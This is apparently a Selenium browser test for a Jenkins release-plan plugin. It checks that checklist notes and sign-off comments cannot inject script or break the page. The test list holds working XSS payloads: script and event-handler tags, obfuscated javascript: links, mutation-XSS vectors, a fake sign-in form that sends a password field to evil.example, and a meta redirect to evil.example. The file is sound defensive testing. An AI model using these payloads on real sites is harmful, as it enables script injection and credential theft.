package io.jenkins.plugins.releaseplan.pages;

import static org.assertj.core.api.Assertions.assertThat;

import hudson.markup.EscapedMarkupFormatter;
import io.jenkins.plugins.releaseplan.checklist.Checklist;
import io.jenkins.plugins.releaseplan.checklist.Mark;
import io.jenkins.plugins.releaseplan.checklist.Status;
import io.jenkins.plugins.releaseplan.gate.Condition;
import io.jenkins.plugins.releaseplan.gate.GateEvent;
import io.jenkins.plugins.releaseplan.gate.SignOff;
import io.jenkins.plugins.releaseplan.host.VirtualHostTime;
import io.jenkins.plugins.releaseplan.release.ReleaseEvent;
import java.util.List;
import java.util.Set;
import org.junit.Before;
import org.junit.Test;
import org.jvnet.hudson.test.TestExtension;
import org.openqa.selenium.By;

/** Comments, notes and a plan that try to be a page of their own, as a browser draws them. */
public class HostileMarkupBrowserTest extends BrowserTestBase {

    /** Virtual time. */
    @TestExtension
    public static final class Time extends VirtualHostTime {}

    private static final String OWN = "document.documentElement.dataset.owned=1";

    /** What would show up on the page if any of it worked. */
    private static final List<String> TEXTS = List.of(
            "<script>" + OWN + "</script>",
            "<img src=x onerror=\"" + OWN + "\">",
            "<svg onload=\"" + OWN + "\"><script>" + OWN + "</script></svg>",
            "<svg><a xlink:href=\"javascript:" + OWN + "\"><text>in a drawing</text></a></svg>",
            "<details open ontoggle=\"" + OWN + "\">opened</details>",
            "<iframe srcdoc=\"<script>parent." + OWN + "</script>\"></iframe>",
            "<style>rp-live { display: none !important }</style>",
            "<link rel=stylesheet href=data:text/css,*{display:none}>",
            "<form action=\"https://evil.example/\"><input name=j_password autofocus onfocus=\"" + OWN
                    + "\"><button>Sign in</button></form>",
            "<div style=\"position:fixed;inset:0;background:red;z-index:9999\">over everything</div>",
            "<a href=\"javascript:" + OWN + "\">link</a> [link](javascript:" + OWN + ")",
            "<a href=\"&#106;ava&Tab;script:" + OWN + "\">link</a> [link](&#106;avascript:" + OWN + ")",
            "<a href=\"java\nscript:" + OWN + "\">link</a> <a href=\" \u0001javascript:" + OWN + "\">link</a>",
            "<a href=\"data:text/html,<script>" + OWN + "</script>\">link</a> <a href=\"vbscript:x\">link</a>",
            "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "</p></div></section></rp-live></main><h1>the end of the page",
            "<table><tr><td><img src=x onerror=\"" + OWN + "\"></td></table><td>cell",
            "| a | b |\n|---|---|\n| <script>" + OWN + "</script> | <b onmouseover=\"" + OWN + "\">b</b> |",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + OWN
                    + "&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=" + OWN + ">\">",
            "<template><script>" + OWN
                    + "</script></template><rp-dialog></rp-dialog><textarea></textarea><img src=x onerror=" + OWN + ">",
            "\u202Edesrever \u2066isolated \u202Dforced",
            "<b><i><u>unclosed <ul><li>list",
            "&lt;script&gt;" + OWN + "&lt;/script&gt;");

    @Before
    public void open() throws Exception {
        begin();
        StringBuilder plan = new StringBuilder("# Plan\n\n## Before\n\n");
        for (String text : TEXTS) {
            plan.append("- [ ] **item** ")
                    .append(text.replace('\n', ' '))
                    .append("\n  - below ")
                    .append(text.replace('\n', ' '))
                    .append('\n');
        }
        plan.append("\n## Text\n\n").append(String.join("\n\n", TEXTS)).append("\n\n- [ ] the last item\n");
        Scene.host()
                .tell(ID, new ReleaseEvent.ChecklistRead(Checklist.parse(plan.toString())))
                .join();
        List<String> items = Scene.state(ID)
                .checklist()
                .itemsOf(Scene.state(ID).checklist().phases())
                .stream()
                .map(item -> item.id())
                .toList();
        for (int i = 0; i < TEXTS.size(); i++) {
            mark(items.get(i), TEXTS.get(i));
        }
        mark(items.get(items.size() - 1), "<b>long</b> ".repeat(9_000) + "unbroken".repeat(1_000));
        Scene.reachGate(ID, Scene.GATE, new Condition.SignedOff("Security Lead", 2));
        Scene.host()
                .tell(
                        ID,
                        new ReleaseEvent.OfGate(
                                Scene.GATE,
                                new GateEvent.Signed(
                                        "sam",
                                        Set.of("Security Lead"),
                                        "Security Lead",
                                        SignOff.Decision.APPROVE,
                                        String.join("\n", TEXTS),
                                        Scene.NEW)))
                .join();
    }

    /** Past what deeds allow, as an older or foreign ledger may have it. */
    private static void mark(String item, String note) {
        Scene.host()
                .tell(
                        ID,
                        new ReleaseEvent.ItemMarked(
                                new Mark(item, Status.DONE, "tina", Scene.host().now(), "", note, "")))
                .join();
    }

    private void assertQuietAndWhole() throws Exception {
        for (boolean phone : new boolean[] {false, true}) {
            CHROMIUM.login(jenkins.getURL(), "tina");
            CHROMIUM.look(phone, false);
            CHROMIUM.driver().get(jenkins.getURL() + page());
            CHROMIUM.see("rp-checklist .rp-item", "the last item");
            CHROMIUM.run("document.querySelectorAll('#main-panel details').forEach(part => { part.open = true })");
            CHROMIUM.run(
                    "[...document.querySelectorAll('rp-live .rp-prose, rp-live .rp-prose *, .rp-item-name *')]"
                            + ".forEach(one => { one.dispatchEvent(new MouseEvent('mouseover')); if (one.tagName !== 'A') one.click() })");
            assertThat(CHROMIUM.run("return document.documentElement.dataset.owned || ''"))
                    .isEqualTo("");
            assertThat((List<?>) CHROMIUM.run("return [...document.querySelectorAll('rp-live a')].map(a => a.href)"
                            + ".filter(href => !/^https?:/.test(href))"))
                    .isEmpty();
            assertThat(
                            CHROMIUM.run(
                                    "return document.querySelectorAll(':is(.rp-prose, .rp-item-name) :is(script, style, link, iframe, form, input,"
                                            + " button, img, svg, math, base, meta, template, textarea, h1, rp-dialog, [style], [onerror], [onload], [onfocus])').length"))
                    .isEqualTo(0L);
            assertThat(
                            (Long)
                                    CHROMIUM.run(
                                            "const panel = document.querySelector('#main-panel'); return panel.scrollWidth - panel.clientWidth"))
                    .as("how far it scrolls sideways")
                    .isLessThanOrEqualTo(0);
            assertThat(
                            CHROMIUM.run(
                                    "return [...document.querySelectorAll('rp-live > .rp-section > h2')].map(one => one.textContent).join()"))
                    .isEqualTo("What needs you now,Gates and sign-offs,Checklist,Audit trail");
            assertThat(
                            (Long)
                                    CHROMIUM.run(
                                            "return Math.max(...[...document.querySelectorAll('.rp-long')].map(one => one.clientHeight))"))
                    .as("the height of a text of 100,000 characters")
                    .isLessThan(400);
            assertThat(
                            CHROMIUM.run(
                                    "return [...document.querySelectorAll('.rp-prose, .rp-item-name')]"
                                            + ".filter(one => one.offsetParent && getComputedStyle(one).unicodeBidi === 'normal').length"))
                    .as("texts whose direction could change what stands beside them")
                    .isEqualTo(0L);
            assertThat(CHROMIUM.driver()
                            .findElement(By.cssSelector("rp-live .rp-outcome-word"))
                            .getText())
                    .isEqualTo("Running: " + Scene.NEW);
        }
    }

    @Test
    public void nothingRunsWithThePlainFormatter() throws Exception {
        jenkins.jenkins.setMarkupFormatter(new EscapedMarkupFormatter());
        StrictPolicy.enforce();
        assertQuietAndWhole();
        assertThat(CHROMIUM.run("return document.querySelector('rp-gates .rp-comment').textContent"))
                .isEqualTo(String.join("\n", TEXTS));
        assertThat(CHROMIUM.complaints()).isEmpty();
    }

    @Test
    public void nothingRunsWhateverAFormatterLetsThrough() throws Exception {
        jenkins.jenkins.setMarkupFormatter(new LooseFormatter());
        assertQuietAndWhole();
        assertThat((String) CHROMIUM.run("return document.querySelector('rp-gates .rp-comment').innerText"))
                .contains("opened", "the end of the page");
    }

    @Test
    public void neitherDoesItUnderAPolicy() throws Exception {
        jenkins.jenkins.setMarkupFormatter(new LooseFormatter());
        StrictPolicy.enforce();
        assertQuietAndWhole();
    }
}
